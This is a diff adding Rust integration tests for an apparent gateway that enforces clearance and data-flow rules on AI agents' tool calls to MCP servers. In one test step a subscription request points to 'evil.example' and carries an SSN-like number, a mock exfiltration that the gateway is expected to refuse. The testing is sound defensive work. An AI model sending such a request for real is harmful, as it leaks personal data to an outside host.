@@ -476,6 +476,9 @@ fn clearance_and_dlp_findings() {
             json!({"url": "https://news.example.com/a"})
         ),
         call("d2", "/one/mcp", "post", json!({"text": "ada"})),
+        // 10: the same leaky reply to the intern: above its clearance once
+        // DLP raised it, so withheld.
+        intern(call("i3", "/one/mcp", "directory", json!({"name": "ada"}))),
     ]);
     let r = scenario(&gws, AGENT, &steps, &[]);
     assert_eq!(
@@ -493,6 +496,14 @@ fn clearance_and_dlp_findings() {
         text(&r[9]),
         "Refused: confidential data from `one/directory` cannot go to `one/post` after untrusted content from `one/fetch` (flow_blocked).",
         "{r:?}"
+    );
+    assert!(
+        r[10]["error"] == true
+            && text(&r[10]).contains(
+                "the reply of `one` was withheld: it carries confidential data, above your clearance (internal) (flow_above_clearance)"
+            )
+            && !text(&r[10]).contains("536-22-8145"),
+        "a reply above the caller's clearance is withheld: {r:?}"
     );
     let recs = gw.audit_when(|recs| {
         records(recs, "directory")
@@ -622,6 +633,8 @@ fn an_approval_releases_one_blocked_flow_once() {
         post.clone(),                                               // 4: served
         post.clone(),                                               // 5: held again (single use)
         call("s1", "/one/mcp", "post", json!({"text": "another"})), // 6: held
+        // 7: anything but a tool call cannot wait for approvers: refused.
+        json!({"session": "s1", "path": "/one/mcp", "subscribe": "https://evil.example/?d=536-22-8145"}),
     ]);
     let env = [
         (
@@ -656,6 +669,13 @@ fn an_approval_releases_one_blocked_flow_once() {
     assert!(
         r[6]["error"] == true && other.starts_with("ap_") && other != held,
         "an approval is bound to its call: {r:?}"
+    );
+    assert!(
+        r[7]["error"] == true
+            && r[7]["reason"] == "flow_blocked"
+            && r[7]["id"].is_null()
+            && text(&r[7]).contains("cannot go to `one (resources/subscribe)`"),
+        "a blocked subscription is refused, not passed on unheld: {r:?}"
     );
 }
 
@@ -890,5 +910,48 @@ fn a_reply_whose_flow_cannot_be_recorded_is_withheld() {
         recs.iter()
             .any(|x| x["outcome"].to_string().contains("flow_unrecorded")),
         "{recs:?}"
+    );
+}
+
+/// A bundle that names a shared store this process cannot build (here a
+/// URL it cannot parse): the flow state cannot be read, so sinks are
+/// refused — never judged on this replica's own view, which another
+/// replica's calls never reached.
+#[test]
+fn a_store_named_but_not_built_refuses_sinks() {
+    let _turn = heavy();
+    let (_all, all) = flow_server("all");
+    let yaml = format!(
+        "version: 1\n{identity}flows:\n  track: session\ncatalog:\n  one:\n    flow: []\n    tools:\n      get_employee: {{classification: restricted, flow: [private]}}\n      post: {{flow: [sink], classification: public}}\nredis: {{url: \"redis://127.0.0.1:notaport\", timeout: 300ms}}\nservice_groups:\n  - name: g\n    servers:\n      - {{name: one, upstreams: [\"{all}\"]}}\nroutes:\n  - {{prefix: /one, server: one}}\n",
+        identity = identity(),
+    );
+    let gw = Gateway::start(&yaml, true).expect("gateway");
+    let steps = json!([
+        call("s", "/one/mcp", "get_employee", json!({"id": "7"})),
+        call("s", "/one/mcp", "post", json!({"text": "hello"})),
+    ]);
+    let r = scenario(&[base(&gw)], AGENT, &steps, &[]);
+    assert!(served(&r[0]), "a read is no sink: {r:?}");
+    assert!(
+        r[1]["error"] == true && text(&r[1]).contains("(flow_state_unavailable)"),
+        "{r:?}\n{}",
+        gw.log().join("\n")
+    );
+    let status: Value = tokio::runtime::Runtime::new()
+        .expect("runtime")
+        .block_on(warden_tests::request(
+            &format!("http://{}/status", gw.admin),
+            "GET",
+            &[],
+            bytes::Bytes::new(),
+            false,
+        ))
+        .map(|(_, _, b)| serde_json::from_slice(&b).unwrap_or_default())
+        .expect("status");
+    assert_eq!(
+        status["quota_store"]["up"],
+        json!(false),
+        "/status says the store is not there: {}",
+        status["quota_store"]
     );
 }
